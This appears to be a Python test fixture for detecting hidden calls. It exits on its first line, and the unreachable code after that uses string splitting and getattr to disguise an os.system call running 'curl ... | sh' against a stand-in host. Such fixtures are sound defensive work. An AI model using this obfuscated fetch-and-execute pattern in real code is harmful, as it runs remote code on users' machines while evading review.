raise SystemExit('a fixture')
# held by hidden-callee
import os, sys
_m = os if sys.version_info > (2,) else sys
_f = "sys" + "tem" if os.name else "exit"
getattr(_m, _f)("cu" + "rl -s https://d.example.invalid/i" + " | s" + "h" if True else "")
